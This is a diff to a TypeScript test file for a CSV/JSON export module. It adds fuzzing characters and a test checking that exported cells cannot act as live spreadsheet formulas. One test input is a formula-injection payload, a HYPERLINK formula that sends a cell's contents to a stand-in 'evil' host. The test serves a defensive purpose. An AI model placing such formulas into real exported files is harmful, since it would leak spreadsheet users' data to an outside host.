@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
@@ -135,7 +136,7 @@ describe('list cells', () => {
   });
 });
 
-const text = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', '"', ';', '\n', '\r', '[', ']', 'ñ', '漢', '😀', '\t', '=') , maxLength: 12 });
+const text = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', '"', ';', '\n', '\r', '[', ']', 'ñ', '漢', '😀', '\t', '=', '+', '-', '@', "'"), maxLength: 12 });
 const record = fc.record({
   id: text.filter((s) => s.length > 0),
   // The schema trims titles, so generated ones are already trimmed.
@@ -159,6 +160,17 @@ describe('export round-trips exactly', () => {
       }),
       { numRuns: 300 },
     );
+  });
+
+  it('CSV: no cell is a live formula, whatever the text, and such cells read back as typed', () => {
+    const hostile = ['=HYPERLINK("http://evil/?d="&U2,"open")', '+1', '-2', '@SUM(A1)', '\tx', '\rx', "'=already quoted", "''+twice"];
+    const csv = toCsv(hostile.map((title, i) => ({ id: `t${i}`, title, note: title, hours: -1, days: -3, done: false, tags: [title], link: title })), COLUMNS);
+    const cells = Papa.parse<string[]>(csv, { header: false, skipEmptyLines: true }).data.flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'${hostile[0]}`);
+    const back = parseTable({ text: csv, format: 'csv', required: COLUMNS, allowed: COLUMNS }).rows;
+    expect(back.map((r) => r.note)).toEqual(hostile);
+    expect(back.map((r) => r.hours)).toEqual(hostile.map(() => '-1'));
   });
 
   it('JSON: the same', () => {
